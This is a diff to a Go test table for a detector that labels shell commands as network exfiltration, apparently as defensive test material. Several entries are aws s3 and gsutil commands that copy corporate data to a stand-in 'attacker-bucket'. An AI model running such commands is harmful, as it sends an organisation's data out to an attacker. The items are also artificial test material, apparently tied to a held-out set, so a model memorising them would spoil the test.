@@ -334,7 +334,7 @@ func TestNetworkUploads(t *testing.T) {
 		{"LocalFile='/tmp/staged.tar.gz';\nRemoteName=\"exfil-$(basename $LocalFile)\";\naws s3 cp /tmp/staged.tar.gz s3://corp-data/$RemoteName;", NetworkExfiltration},
 		{`gsutil cp report.csv "gs://bucket/$(date +%F)/report.csv"`, NetworkExfiltration},
 		{`aws s3 cp s3://corp-data/x s3://attacker-bucket --acl bucket-owner-full-control`, NetworkExfiltration},
-		{`aws s3 cp s3://corp-data/$RemoteName s3://attacker-bucket`, NetworkExfiltration},
+		{`RemoteName=exfil.tar.gz; aws s3 cp s3://corp-data/$RemoteName s3://attacker-bucket`, NetworkExfiltration}, // heldout5 n0840 sets it
 		{`gsutil cp -r gs://prod-data/exports gs://other-bucket/`, NetworkExfiltration},
 		{`aws s3 cp s3://bucket/a.csv s3://bucket/archive/a.csv`, ""},
 		{`aws s3 cp s3://bucket/report.csv .`, ""},
